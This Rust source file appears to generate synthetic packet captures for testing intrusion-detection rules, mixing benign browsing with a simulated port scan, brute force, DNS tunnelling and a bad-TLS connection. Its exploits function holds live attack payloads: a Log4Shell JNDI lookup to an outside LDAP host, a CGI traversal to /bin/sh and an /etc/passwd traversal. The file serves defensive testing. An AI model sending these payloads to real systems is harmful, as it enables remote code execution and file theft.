//! The demo scenario: two agency networks, background traffic, and five attacks
//! (a port scan, SSH and web-login brute force, exploit attempts, DNS tunnelling, a TLS
//! connection to a known-bad server name). `rules/tocsin.rules` detects each of them.
//!
//! | site      | network        | traffic |
//! |-----------|----------------|---------|
//! | ministry  | 10.20.0.0/16   | browsing, DNS; port scan from 203.0.113.50; DNS tunnel from 10.20.5.5 |
//! | province  | 10.30.0.0/16   | browsing, DNS; SSH + web brute force from 198.51.100.23; exploits from 203.0.113.77; TLS to update-cdn.badactor.example; a short scan from 203.0.113.50 |

use crate::Rng;
use crate::packet::{Frame, Host, udp_frame};
use crate::proto::{
    dns_query, dns_response, http_request, http_response, qtype, tls_client_hello, tls_server_hello,
};
use crate::tcp::TcpSession;

/// Scenario parameters.
#[derive(Debug, Clone, Copy)]
pub struct ScenarioConfig {
    /// Time of the first packet, microseconds since the epoch.
    pub start_micros: i64,
    /// Random seed.
    pub seed: u64,
    /// Background web sessions per site.
    pub benign_sessions: usize,
}

impl Default for ScenarioConfig {
    fn default() -> Self {
        Self {
            // 2026-01-01T00:00:00Z.
            start_micros: 1_767_225_600_000_000,
            seed: 1,
            benign_sessions: 40,
        }
    }
}

/// The traffic one sensor sees.
#[derive(Debug, Clone)]
pub struct Site {
    /// Short name (`ministry`, `province`).
    pub name: &'static str,
    /// Frames in time order.
    pub frames: Vec<Frame>,
}

/// The generated scenario.
#[derive(Debug, Clone)]
pub struct Scenario {
    /// One entry per sensor site.
    pub sites: Vec<Site>,
}

const SCANNER: [u8; 4] = [203, 0, 113, 50];
const BRUTE: [u8; 4] = [198, 51, 100, 23];
const EXPLOITER: [u8; 4] = [203, 0, 113, 77];
const BAD_TLS_SERVER: [u8; 4] = [198, 51, 100, 200];
/// The server name `rules/tocsin.rules` knows as malicious.
pub const BAD_SNI: &str = "update-cdn.badactor.example";
/// The domain the DNS tunnel uses.
pub const TUNNEL_DOMAIN: &str = "t.exfil-tunnel.example";

const SITES: &[&str] = &[
    "www.gov.example",
    "portal.gov.example",
    "news.example.org",
    "cdn.example.net",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
];

struct Gen {
    rng: Rng,
    t: i64,
    frames: Vec<Frame>,
    ip_id: u16,
}

impl Gen {
    fn session(&mut self, client: Host, server: Host) -> TcpSession {
        let c = u32::try_from(self.rng.next_u64() & 0xffff_ffff).unwrap_or(1);
        let s = u32::try_from(self.rng.next_u64() & 0xffff_ffff).unwrap_or(2);
        self.t += 500 + i64::try_from(self.rng.below(5_000)).unwrap_or(0);
        TcpSession::new(client, server, self.t, c, s)
    }

    fn push(&mut self, mut s: TcpSession) {
        self.frames.extend(s.take());
    }

    fn dns(&mut self, client: Host, resolver: Host, name: &str, answer: [u8; 4]) {
        let id = u16::try_from(self.rng.next_u64() & 0xffff).unwrap_or(1);
        self.ip_id = self.ip_id.wrapping_add(1);
        self.t += 200;
        self.frames.push(udp_frame(
            self.t,
            client,
            resolver,
            self.ip_id,
            &dns_query(id, name, qtype::A),
        ));
        self.t += 800;
        self.frames.push(udp_frame(
            self.t,
            resolver,
            client,
            self.ip_id,
            &dns_response(id, name, qtype::A, &answer),
        ));
    }

    fn browse(&mut self, net: [u8; 2], n: usize) {
        let resolver = Host::new([net[0], net[1], 0, 53], 53);
        for _ in 0..n {
            let host = *self.rng.pick(SITES);
            let server_ip = [
                93,
                184,
                216,
                u8::try_from(1 + self.rng.below(200)).unwrap_or(1),
            ];
            let client_ip = [
                net[0],
                net[1],
                10,
                u8::try_from(2 + self.rng.below(200)).unwrap_or(2),
            ];
            let cport = u16::try_from(40_000 + self.rng.below(20_000)).unwrap_or(40_000);
            self.dns(
                Host::new(client_ip, cport.wrapping_add(1)),
                resolver,
                host,
                server_ip,
            );
            let mut s = self.session(Host::new(client_ip, cport), Host::new(server_ip, 80));
            s.handshake();
            let pages = 1 + self.rng.below(3);
            for p in 0..pages {
                let uri = format!("/{}/{}.html", self.rng.alnum(6), p);
                let agent = *self.rng.pick(AGENTS);
                s.client_send(&http_request("GET", &uri, host, agent, &[]), 1460);
                let body_len = usize::try_from(500 + self.rng.below(6_000)).unwrap_or(500);
                let body = format!("<html><body>{}</body></html>", self.rng.alnum(body_len));
                s.server_send(
                    &http_response(200, "OK", "text/html", body.as_bytes()),
                    1460,
                );
            }
            s.close();
            self.t = s.ts;
            self.push(s);
        }
    }

    fn port_scan(&mut self, target: [u8; 4], ports: std::ops::RangeInclusive<u16>) {
        let open = [22u16, 80, 443];
        for port in ports {
            let mut s = self.session(Host::new(SCANNER, 61_000), Host::new(target, port));
            s.gap = 50;
            s.probe(open.contains(&port));
            self.t = s.ts;
            self.push(s);
        }
    }

    fn ssh_brute_force(&mut self, target: [u8; 4], attempts: u16) {
        for i in 0..attempts {
            let mut s = self.session(Host::new(BRUTE, 50_000 + i), Host::new(target, 22));
            s.handshake();
            s.server_send(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", 1460);
            s.client_send(b"SSH-2.0-libssh2_1.10.0\r\n", 1460);
            let blob = self.rng.alnum(600);
            s.client_send(blob.as_bytes(), 1460);
            s.close();
            self.t = s.ts + 200_000;
            self.push(s);
        }
    }

    fn web_brute_force(&mut self, target: [u8; 4], attempts: u16) {
        for i in 0..attempts {
            let mut s = self.session(Host::new(BRUTE, 52_000 + i), Host::new(target, 80));
            s.handshake();
            let body = format!("user=admin&password={}", self.rng.alnum(8));
            s.client_send(
                &http_request(
                    "POST",
                    "/login",
                    "intranet.province.example",
                    "python-requests/2.31",
                    body.as_bytes(),
                ),
                1460,
            );
            s.server_send(
                &http_response(401, "Unauthorized", "text/html", b"<h1>Unauthorized</h1>"),
                1460,
            );
            s.close();
            self.t = s.ts + 100_000;
            self.push(s);
        }
    }

    fn exploits(&mut self, target: [u8; 4]) {
        let attempts: [(&str, &str); 3] = [
            (
                "/api/search?q=${jndi:ldap://203.0.113.77:1389/Exploit}",
                "Mozilla/5.0 ${jndi:ldap://203.0.113.77:1389/a}",
            ),
            ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "curl/8.5.0"),
            ("/index.php?page=../../../../etc/passwd", "Mozilla/5.0"),
        ];
        for (i, (uri, agent)) in attempts.iter().enumerate() {
            let port = 55_000 + u16::try_from(i).unwrap_or(0);
            let mut s = self.session(Host::new(EXPLOITER, port), Host::new(target, 80));
            s.handshake();
            s.client_send(
                &http_request("GET", uri, "intranet.province.example", agent, &[]),
                1460,
            );
            s.server_send(
                &http_response(404, "Not Found", "text/html", b"<h1>Not Found</h1>"),
                1460,
            );
            s.close();
            self.t = s.ts + 1_000_000;
            self.push(s);
        }
    }

    fn dns_tunnel(&mut self, client: [u8; 4], resolver: [u8; 4], queries: usize) {
        for i in 0..queries {
            let label = self.rng.alnum(48);
            let name = format!("{label}.{i}.{TUNNEL_DOMAIN}");
            let port = u16::try_from(30_000 + i).unwrap_or(30_000);
            self.dns(
                Host::new(client, port),
                Host::new(resolver, 53),
                &name,
                [127, 0, 0, 1],
            );
            self.t += 20_000;
        }
    }

    fn bad_tls(&mut self, client: [u8; 4]) {
        let mut random = [0u8; 32];
        for b in &mut random {
            *b = u8::try_from(self.rng.below(256)).unwrap_or(0);
        }
        let mut s = self.session(Host::new(client, 49_999), Host::new(BAD_TLS_SERVER, 443));
        s.handshake();
        s.client_send(&tls_client_hello(BAD_SNI, random), 1460);
        random.reverse();
        s.server_send(&tls_server_hello(random), 1460);
        s.close();
        self.t = s.ts;
        self.push(s);
    }
}

impl Scenario {
    /// Generates the scenario.
    #[must_use]
    pub fn generate(cfg: ScenarioConfig) -> Self {
        let mut sites = Vec::new();
        for (i, name) in ["ministry", "province"].into_iter().enumerate() {
            let mut g = Gen {
                rng: Rng::new(cfg.seed.wrapping_add(u64::try_from(i).unwrap_or(0) * 7919)),
                t: cfg.start_micros,
                frames: Vec::new(),
                ip_id: 1,
            };
            if name == "ministry" {
                g.browse([10, 20], cfg.benign_sessions / 2);
                g.port_scan([10, 20, 1, 10], 1..=150);
                g.browse([10, 20], cfg.benign_sessions / 4);
                g.dns_tunnel([10, 20, 5, 5], [10, 20, 0, 53], 60);
                g.browse([10, 20], cfg.benign_sessions / 4);
            } else {
                g.browse([10, 30], cfg.benign_sessions / 2);
                g.ssh_brute_force([10, 30, 2, 20], 25);
                g.web_brute_force([10, 30, 2, 30], 15);
                g.exploits([10, 30, 2, 30]);
                g.port_scan([10, 30, 1, 10], 20..=40);
                g.bad_tls([10, 30, 4, 4]);
                g.browse([10, 30], cfg.benign_sessions / 2);
            }
            g.frames.sort_by_key(|f| f.ts_micros);
            sites.push(Site {
                name,
                frames: g.frames,
            });
        }
        Self { sites }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_time_ordered() {
        let a = Scenario::generate(ScenarioConfig::default());
        let b = Scenario::generate(ScenarioConfig::default());
        assert_eq!(a.sites[0].frames, b.sites[0].frames);
        for site in &a.sites {
            assert!(
                site.frames
                    .windows(2)
                    .all(|w| w[0].ts_micros <= w[1].ts_micros)
            );
            assert!(
                site.frames.len() > 500,
                "{} has {} frames",
                site.name,
                site.frames.len()
            );
        }
        let c = Scenario::generate(ScenarioConfig {
            seed: 2,
            ..ScenarioConfig::default()
        });
        assert_ne!(a.sites[0].frames, c.sites[0].frames);
    }
}
